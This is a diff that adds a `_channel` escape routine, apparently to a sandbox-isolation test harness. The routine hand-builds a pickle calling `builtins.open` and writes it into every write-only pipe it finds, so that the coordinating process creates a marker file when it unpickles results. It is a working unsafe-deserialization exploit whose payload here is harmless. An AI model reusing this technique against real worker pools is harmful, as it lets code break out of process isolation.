@@ -255,7 +255,33 @@ def _fork_exec(path: str, *argv: str) -> None:
         raise OSError(1, f"child exit {os.waitstatus_to_exitcode(status)}")
 
 
+def _channel(marker: str) -> str:
+    """Write a hostile message to pebble's result pipe: a pickle that, unpickled by the
+    coordinator's stock reader, creates `marker` there (`builtins.open(marker, "x")`)."""
+    import fcntl
+    import pickle
+    import stat
+    import struct
+
+    payload = (b"\x80\x02cbuiltins\nopen\n" + pickle.dumps((marker, "x"), protocol=2)[2:-1]
+               + b"R.")
+    sent = []
+    for entry in Path("/proc/self/fd").iterdir():
+        fd = int(entry.name)
+        try:
+            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
+                continue
+            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_WRONLY:
+                continue
+            os.write(fd, struct.pack("!i", len(payload)) + payload)
+            sent.append(fd)
+        except OSError:
+            continue
+    return f"sent to fds {sent}"
+
+
 ESCAPES: dict[str, Callable[..., object]] = {
+    "channel": _channel,
     "create": _create,
     "truncate": _truncate,
     "open-truncate": _open_truncate,
